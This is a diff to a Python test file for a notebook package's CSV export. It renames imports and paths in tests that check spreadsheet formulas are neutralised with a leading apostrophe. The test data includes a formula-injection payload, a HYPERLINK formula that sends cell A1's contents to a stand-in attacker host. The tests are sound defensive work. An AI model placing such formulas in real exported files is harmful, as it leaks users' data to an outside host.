@@ -10,14 +10,14 @@ from pathlib import Path
 import pandas as pd
 import pytest
 
-from argyle_nb import csv_files
-from argyle_nb.frames import flatten
+from argyle_nb import storage
+from argyle_nb.frames.uploads import flatten
 from argyle_nb.report import export_report
 from argyle_nb.widgets import upload
 from tests.records import form, record, stages
 from tests.servers import client_of
 
-SCRIPTS = Path(upload.__file__).parent
+SCRIPTS = Path(upload.__file__).parent / "static"
 
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?"&A1,"click")',
@@ -123,7 +123,7 @@ def bare(text):
 @pytest.mark.parametrize("text", FORMULAS, ids=ascii)
 def test_a_formula_stays_text_in_cells_headers_and_categories(text, tmp_path):
     frame = pd.DataFrame({text: [text], "kind": pd.Categorical([text]), "number": [-5]})
-    csv_files.write_csv(frame, tmp_path / "x.csv")
+    storage.write_csv(frame, tmp_path / "x.csv")
     cells = cells_of(tmp_path / "x.csv")
     assert [cell for cell in cells if runs(cell)] == ["-5"]
     assert [bare(cell) for cell in cells if cell.startswith("'")] == [bare(text)] * 3
@@ -131,7 +131,7 @@ def test_a_formula_stays_text_in_cells_headers_and_categories(text, tmp_path):
 
 @pytest.mark.parametrize("text", HARMLESS, ids=ascii)
 def test_what_is_no_formula_stays_as_it_is(text, tmp_path):
-    csv_files.write_csv(pd.DataFrame({"a": [text], "b": ["x"]}), tmp_path / "x.csv")
+    storage.write_csv(pd.DataFrame({"a": [text], "b": ["x"]}), tmp_path / "x.csv")
     assert cells_of(tmp_path / "x.csv") == ["a", "b", text, "x"]
 
 
@@ -217,8 +217,8 @@ def _client_in(environment):
 
 
 def test_without_the_apostrophe_a_formula_would_run(tmp_path, monkeypatch):
-    monkeypatch.setattr(csv_files, "neutral", lambda text: text)
-    csv_files.write_csv(pd.DataFrame({"a": [FORMULAS[0]]}), tmp_path / "x.csv")
+    monkeypatch.setattr(storage, "neutral", lambda text: text)
+    storage.write_csv(pd.DataFrame({"a": [FORMULAS[0]]}), tmp_path / "x.csv")
     assert [cell for cell in cells_of(tmp_path / "x.csv") if runs(cell)]
 
 
